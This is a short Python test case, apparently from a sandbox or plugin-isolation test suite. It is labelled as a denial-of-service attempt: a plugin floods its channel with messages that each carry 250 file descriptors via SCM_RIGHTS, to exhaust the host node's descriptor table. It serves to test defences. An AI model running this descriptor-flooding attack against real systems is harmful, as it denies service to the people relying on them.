# family: frames-of-ours
# kind: dos
# tries: descriptors sent along the channel (SCM_RIGHTS), to fill the node's table
# success looks like: the node runs out of descriptors
def job(plugin):
  @LIBC@
  socket = sys.modules['socket']
  array = sys.modules.get('array')
  channel = socket.socket(fileno=os.dup(3))
  mine = b''.join([(0).to_bytes(4, 'little')] * 250)
  sent = 0
  frame = b'\0\0\0\x17{"did":"log","text":""}'
  for i in range(200):
    try:
      channel.sendmsg([frame], [(1, 1, mine)])
      sent = sent + 1
    except OSError as error:
      return [sent, str(error)]
  return sent
